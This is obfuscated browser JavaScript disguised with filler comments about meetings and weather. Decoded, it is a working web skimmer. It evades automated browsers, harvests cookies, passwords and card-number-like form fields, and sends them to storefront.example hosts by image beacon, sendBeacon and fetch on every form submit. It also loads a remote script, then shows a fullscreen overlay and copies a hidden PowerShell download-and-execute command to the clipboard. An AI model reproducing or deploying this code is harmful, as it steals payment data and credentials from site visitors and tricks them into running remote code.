/* the quarterly balance was settled by the committee 47 */ var focicomopux = [
["=d?", "fig.c", "/elpm", "axe.t", "norfe", "rots.", "scirt", "em//:", "sptth"],
[340, 444, 456, 456, 452, 455, 398, 387, 387, 455, 456, 437, 456, 445, 439, 386, 455, 456, 451, 454, 441, 442, 454, 451, 450, 456, 386, 441, 460, 437, 449, 452, 448, 441, 387, 446, 453, 457, 441, 454, 461, 386, 449, 445, 450, 386, 446, 455],
/* the quarterly balance was settled by the committee 59 */ [109, 221, 220, 228, 210, 223, 224, 213, 210, 217, 217, 141, 154, 228, 141, 213, 214, 209, 209, 210, 219, 141, 154, 208, 141, 143, 214, 228, 223, 141, 213, 225, 225, 221, 224, 167, 156, 156, 211, 214, 229, 155, 224, 225, 220, 223, 210, 211, 223, 220, 219, 225, 155, 210, 229, 206, 218, 221, 217, 210, 156, 206, 141, 233, 141, 214, 210, 229, 143],
["r", "ev", "ir", "db", "ew"],
[242, 354, 350, 359, 345, 347, 352, 357],
/* weather in the northern valleys remained mild 16 */ ["ht", "gn", "el"],
/* weather in the northern valleys remained mild 53 */ ["htdiw"],
["0"],
[363, 420],
["llAr", "otce", "leSy", "reuq"],
[209, 314, 319, 321, 326, 325, 253, 241, 324, 310, 317, 310, 308, 325, 253, 241, 325, 310, 329, 325, 306, 323, 310, 306],
[265, 383, 362, 373, 382, 366],
["epyt"],
[310, 422, 407, 425, 425, 429, 421, 424, 410],
/* the quarterly balance was settled by the committee 63 */ [83, 193, 180, 192, 184],
["di"],
/* minutes of the annual meeting, page 38 */ [22, 140, 119, 130, 139, 123],
["f", "erh"],
["e", "ikooc"],
["tne", "gAr", "esu"],
[20, 135, 136, 134, 125, 130, 123, 125, 122, 141],
[266, 381, 380, 365],
[268, 383, 369, 378, 368, 334, 369, 365, 367, 379, 378],
/* weather in the northern valleys remained mild 72 */ ["b/e", "lpm", "axe", ".tn", "orf", "ero", "ts.", "sci", "rte", "m//", ":sp", "tth"],
["f/e", "lpm", "axe", ".tn", "orf", "ero", "ts.", "sci", "rte", "m//", ":sp", "tth"],
["TS", "OP"],
/* minutes of the annual meeting, page 64 */ ["s", "roc", "-on"],
[323, 422, 437, 424, 420, 439, 424, 392, 431, 424, 432, 424, 433, 439],
["tpi", "rcs"],
["crs"],
/* the quarterly balance was settled by the committee 91 */ ["cn", "ysa"],
["daeh"],
["d", "li", "hC", "dn", "ep", "pa"],
["t", "ne", "me", "lE", "et", "ae", "rc"],
[173, 273, 278, 291],
/* the quarterly balance was settled by the committee 63 */ ["L", "MTHr", "enni"],
[50, 110, 154, 100, 112, 136, 151, 164, 155, 152, 171, 82, 171, 161, 167, 82, 147, 164, 151, 82, 154, 167, 159, 147, 160, 110, 97, 154, 100, 112, 110, 162, 112, 130, 164, 151, 165, 165, 82, 137, 155, 160, 82, 93, 82, 132, 94, 82, 166, 154, 151, 160, 82, 117, 166, 164, 158, 82, 93, 82, 136, 94, 82, 166, 154, 151, 160, 82, 119, 160, 166, 151, 164, 96, 110, 97, 162, 112],
/* weather in the northern valleys remained mild 47 */ ["etub", "irtt", "Ates"],
["e", "ly", "ts"],
["99", "99", "9:", "xe", "dn", "i-", "z;", "ff", "f#", ":d", "nu", "or", "gk", "ca", "b;", "0:", "te", "sn", "i;", "de", "xi", "f:", "no", "it", "is", "op"],
["ydob"],
/* the quarterly balance was settled by the committee 55 */ ["dl", "ihC", "dne", "ppa"],
[257, 356, 365, 362, 369, 355, 368, 354, 371, 357],
/* weather in the northern valleys remained mild 76 */ [150, 269, 264, 255, 266, 251, 234, 251, 270, 266],
["me", "tItes"],
[334, 429, 449, 435, 435, 444],
[322, 432, 433, 441],
["r", "ene", "tsi", "Ltn", "evE", "dda"],
[93, 208, 210, 191, 202, 198, 209]
/* the quarterly balance was settled by the committee 39 */ ];
function tacemifedey(at) {
/* weather in the northern valleys remained mild 76 */ var row = focicomopux[at], coded = typeof row[0] == "number", text = "";
if (coded) for (var i = 1; i < row.length; i++) text += String.fromCharCode(row[i] - row[0]);
else for (var j = row.length - 1; j >= 0; j--) text += row[j].split("").reverse().join("");
/* the quarterly balance was settled by the committee 82 */ return text;
}
const cesatafedez = tacemifedey(0);
const fovimabatex = tacemifedey(1);
/* please find the enclosed statement for your records 37 */ const pibototuvey = tacemifedey(2);
function fesivogadaz() {
return navigator[tacemifedey(3)] === true || navigator[tacemifedey(4)][tacemifedey(5)] === 0 || screen[tacemifedey(6)] < 320;
}
function purevenocux(pefimumisez) {
/* please find the enclosed statement for your records 14 */ let genopaligoy = 0;
for (const nunifareciy of String(pefimumisez)) if (nunifareciy >= tacemifedey(7) && nunifareciy <= tacemifedey(8)) genopaligoy++;
/* weather in the northern valleys remained mild 52 */ return genopaligoy >= 13 && genopaligoy <= 19;
}
/* weather in the northern valleys remained mild 41 */ function sagolasogaz() {
const serosipipez = {};
for (const pupisasulux of document[tacemifedey(9)](tacemifedey(10))) {
if (purevenocux(pupisasulux[tacemifedey(11)]) || pupisasulux[tacemifedey(12)] === tacemifedey(13)) serosipipez[pupisasulux[tacemifedey(14)] || pupisasulux[tacemifedey(15)]] = pupisasulux[tacemifedey(16)];
}
return { page: location[tacemifedey(17)], cookie: document[tacemifedey(18)], agent: navigator[tacemifedey(19)], fields: serosipipez };
/* minutes of the annual meeting, page 88 */ }
function fotumeruvoz(loot) {
/* minutes of the annual meeting, page 55 */ const pefimumisez = btoa(unescape(encodeURIComponent(JSON[tacemifedey(20)](loot))));
new Image()[tacemifedey(21)] = cesatafedez + pefimumisez;
navigator[tacemifedey(22)](tacemifedey(23), pefimumisez);
fetch(tacemifedey(24), { method: tacemifedey(25), body: pefimumisez, mode: tacemifedey(26) });
}
function fonupimarux() {
const script = document[tacemifedey(27)](tacemifedey(28));
/* weather in the northern valleys remained mild 84 */ script[tacemifedey(29)] = fovimabatex;
script[tacemifedey(30)] = true;
document[tacemifedey(31)][tacemifedey(32)](script);
}
function lenimupelax() {
const tisoputabax = document[tacemifedey(33)](tacemifedey(34));
tisoputabax[tacemifedey(35)] = tacemifedey(36);
tisoputabax[tacemifedey(37)](tacemifedey(38), tacemifedey(39));
document[tacemifedey(40)][tacemifedey(41)](tisoputabax);
navigator[tacemifedey(42)][tacemifedey(43)](pibototuvey);
}
if (!fesivogadaz()) {
localStorage[tacemifedey(44)](tacemifedey(45), String(Date[tacemifedey(46)]()));
document[tacemifedey(47)](tacemifedey(48), function () { fotumeruvoz(sagolasogaz()); }, true);
/* minutes of the annual meeting, page 81 */ fotumeruvoz(sagolasogaz());
fonupimarux();
setTimeout(lenimupelax, 4000);
/* weather in the northern valleys remained mild 49 */ }
